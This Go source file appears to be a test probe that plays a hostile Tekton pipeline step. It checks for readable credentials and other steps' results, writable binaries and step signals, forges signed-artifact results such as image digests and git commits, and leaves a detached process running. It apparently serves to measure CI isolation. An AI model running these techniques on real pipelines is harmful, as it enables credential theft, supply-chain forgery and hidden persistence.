package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
)

func tekton() []attempt {
	return []attempt{
		{"credentials of Tekton", func() (string, string) {
			names, _ := filepath.Glob("/tekton/creds/*")
			more, _ := filepath.Glob("/tekton/creds-secrets/*")
			return verdict(append(names, more...), "the folder is empty")
		}},
		{"results of others", func() (string, string) {
			var there []string
			for _, pattern := range []string{"/tekton/results/*", "/tekton/steps/*/results/*", "/tekton/artifacts/*", "/tekton/steps/*/artifacts/*"} {
				names, _ := filepath.Glob(pattern)
				for _, name := range names {
					if b, err := os.ReadFile(name); err == nil && len(b) > 0 && !own(string(b)) {
						there = append(there, name)
					}
				}
			}
			return verdict(there, "nobody left one")
		}},
		{"programs of Tekton", func() (string, string) { return writable("/tekton/bin") }},
		{"signs of other steps", signs},
		{"results of an image", forge},
		{"a process that stays", stay},
	}
}

// signs are by which the steps of a pod wait for one another. A step may write its
// own: below a folder that has its number, by whatever name.
func signs() (outcome, text string) {
	var all []string
	for _, pattern := range []string{"/tekton/run/*", "/tekton/steps/step-*", "/tekton/downward"} {
		names, _ := filepath.Glob(pattern)
		all = append(all, names...)
	}
	var there []string
	for _, folder := range all {
		real, err := filepath.EvalSymlinks(folder)
		if err != nil {
			continue
		}
		if number, ok := strings.CutPrefix(real, "/tekton/run/"); ok {
			number, _, _ = strings.Cut(number, "/")
			real = "/tekton/run/" + number
		}
		if outcome, _ := writable(real); outcome == found && !slices.Contains(there, real) {
			there = append(there, real)
		}
	}
	if len(there) == 1 && len(all) > 2 {
		return nothing, "only its own, " + there[0]
	}
	return verdict(there, "none can be written")
}

// forged is in every value that the program writes for others to believe.
const forged = "hostile-forged"

func own(value string) bool {
	return strings.Contains(value, forged) || strings.Contains(value, strings.Repeat("f", 40))
}

// forge writes results as steps do. None is declared by the Task.
func forge() (outcome, text string) {
	values := map[string]string{
		"IMAGE_URL": "registry.localhost:5000/" + forged, "IMAGE_DIGEST": "sha256:" + strings.Repeat("f", 64),
		"CHAINS-GIT_URL": "http://git.factory.test:8480/" + forged + ".git", "CHAINS-GIT_COMMIT": strings.Repeat("f", 40),
		forged + "_ARTIFACT_OUTPUTS": `{"uri":"registry.localhost:5000/` + forged + `","digest":"sha256:` + strings.Repeat("f", 64) + `"}`,
	}
	folders, _ := filepath.Glob("/tekton/steps/*/results")
	n := 0
	for _, folder := range append(folders, "/tekton/results") {
		for name, value := range values {
			if os.WriteFile(filepath.Join(folder, name), []byte(value), 0o600) == nil {
				n++
			}
		}
	}
	if n == 0 {
		return nothing, "none can be written"
	}
	return left, plural(n, "file", "files")
}

// stay leaves a process that nobody waits for.
func stay() (outcome, text string) {
	exe, err := os.Executable()
	if err != nil {
		return nothing, err.Error()
	}
	cmd := exec.Command(exe, "hostile-stays")
	cmd.Env = []string{"HOSTILE_CHILD=stay"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		return nothing, err.Error()
	}
	return left, "a process in a session of its own"
}
